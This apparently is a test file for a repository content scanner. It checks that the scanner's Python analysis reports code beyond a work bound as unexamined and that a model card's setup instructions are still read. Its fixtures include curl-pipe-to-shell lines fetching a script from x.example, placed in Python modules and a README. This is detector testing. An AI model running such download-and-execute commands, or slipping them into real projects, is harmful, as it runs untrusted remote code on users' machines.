// The Python analysis has a per-repository work bound (PYTHON_WORK_BOUND characters, about 10–30 µs each): code
// beyond it is not analysed and says so with a blocking finding naming how much was left — never a silent pass.
// The files here are mostly one comment line, cheap to parse, so the test stays fast while the bound is reached.
import { runContentChecks } from '../../../src/checks/content/index.js';
import { PYTHON_WORK_BOUND } from '../../../src/checks/content/code.js';
import type { RepoContent } from '../../../src/checks/content/types.js';
import { loadAnalyzers } from '../../../src/checks/content/analyzers.js';

// The content checks below are called directly (synchronously): load the analyzers they reach first.
await loadAnalyzers();

function repo(files: Record<string, string>): RepoContent {
  return { files: Object.keys(files).map((path) => ({ path, size: (files[path] as string).length, formats: ['python'] })), text: (p) => files[p] };
}

/** A module of `n` characters: a long comment, then code that would be flagged if it were read. */
const big = (n: number): string => {
  const tail = 'import os\nos.system("curl https://x.example/i.sh | sh")\n';
  return `# ${'x'.repeat(n - tail.length - 3)}\n${tail}`;
};

describe('the Python analysis work bound', () => {
  test('the bound is a few MiB: far above real remote-code repositories, far below the 64 MiB the capture keeps', () => {
    expect(PYTHON_WORK_BOUND).toBeGreaterThanOrEqual(2 * 1024 * 1024);
    expect(PYTHON_WORK_BOUND).toBeLessThanOrEqual(16 * 1024 * 1024);
  });

  test('Python beyond the bound is not analysed and blocks: "not fully analysed: N characters beyond the work bound"', () => {
    const per = 1000 * 1024;
    const n = Math.ceil(PYTHON_WORK_BOUND / per) + 1;
    const files: Record<string, string> = {};
    for (let i = 0; i < n; i++) files[`pkg/m${i}.py`] = big(per);
    const fs = runContentChecks(repo(files));
    const over = fs.filter((f) => f.check === 'code.not-examined');
    expect(over.length).toBeGreaterThanOrEqual(1);
    for (const f of over) {
      expect(f.severity).toBe('high');
      expect(f.message).toMatch(new RegExp(`^Not fully analysed: ${per} characters beyond the work bound .*review by hand$`));
    }
    // Files within the bound were analysed (their download-and-run was found); those beyond were not.
    const analysed = fs.filter((f) => f.check === 'code.download-exec').map((f) => f.file);
    expect(analysed.length).toBe(n - over.length);
    expect(new Set([...analysed, ...over.map((f) => f.file)]).size).toBe(n);
  });

  test('a small file after the bound is spent still fits and is analysed', () => {
    const per = 1000 * 1024;
    const files: Record<string, string> = {};
    for (let i = 0; i < Math.ceil(PYTHON_WORK_BOUND / per) + 1; i++) files[`pkg/m${i}.py`] = big(per);
    files['zz_small.py'] = 'import os\nos.system("curl https://x.example/i.sh | sh")\n';
    const fs = runContentChecks(repo(files));
    expect(fs.some((f) => f.file === 'zz_small.py' && f.check === 'code.download-exec')).toBe(true);
  });
});

describe('the instructions check\'s document bound', () => {
  test('the model card is read first: with more documents than the bound, its own instructions are still found', () => {
    const files: Record<string, string> = { 'README.md': '# Model\n\n```bash\ncurl -sSL https://x.example/i.sh | bash\n```\n' };
    for (let i = 0; i < 2100; i++) files[`docs/${String(i).padStart(4, '0')}.md`] = `# Page ${i}\n`;
    const found = runContentChecks({ files: Object.keys(files).map((path) => ({ path, size: (files[path] as string).length, formats: ['text'] })), text: (p) => files[p] });
    expect(found.some((f) => f.file === 'README.md' && f.check !== 'instructions.not-examined' && (f.severity === 'high' || f.severity === 'critical'))).toBe(true);
    // The documents past the bound are not read, and that blocks.
    expect(found.some((f) => f.check === 'instructions.not-examined' && f.severity === 'high' && /more than 2000 documents/.test(f.message))).toBe(true);
  });
});
